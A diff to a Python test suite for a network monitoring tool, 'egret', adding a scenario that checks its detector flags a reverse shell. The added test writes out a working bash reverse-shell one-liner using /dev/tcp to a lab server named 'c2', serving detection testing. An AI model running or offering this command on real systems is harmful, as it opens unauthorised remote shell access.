@@ -97,6 +97,19 @@ def trees(n):
     CASES.equal("--wait: what was started is waited for", [status, len(lab.last_flows(records))], [3, 1])
 
 
+def findings(n):
+    """A command that opens a reverse shell is told of it, on the terminal and in the records; an ordinary one is not."""
+    server = n.small_server("c2", 4000)
+    status, out, records = egret_exec(n, "--", "bash", "-c", f"bash -i >& /dev/tcp/{S4}/4000 0>&1 & sleep 4; kill -9 $!")
+    found = [r["egret"]["finding"] for r in records if r["event_type"] == "alert" and "finding" in r["egret"]]
+    CASES.check("findings: a reverse shell, in the records", any(
+        f["detector"] == "shell" and f["level"] in ("high", "critical") and f"{S4}:4000" in f["peer"] for f in found), found, out)
+    CASES.check("findings: a reverse shell, at the end of the table", f"{S4}:4000" in out and "shell" in out, out)
+    n.stop(server)
+    _, out, records = egret_exec(n, "--", "curl", "-s", f"http://{S4}/")
+    CASES.equal("findings: none of an ordinary command", [r for r in records if r["event_type"] == "alert"], [])
+
+
 def users(n):
     status, out, records = egret_exec(n, "--user", "nobody", "--", "curl", "-s", f"http://{S4}/")
     flows = lab.last_flows(records)
@@ -126,7 +139,7 @@ def main():
     try:
         n.nginx()
         n.dnsmasq()
-        for scenario in (statuses, curl, trees, users, signals):
+        for scenario in (statuses, curl, trees, findings, users, signals):
             scenario(n)
     except (RuntimeError, TimeoutError, subprocess.SubprocessError) as e:
         CASES.check("egret exec", False, repr(e))
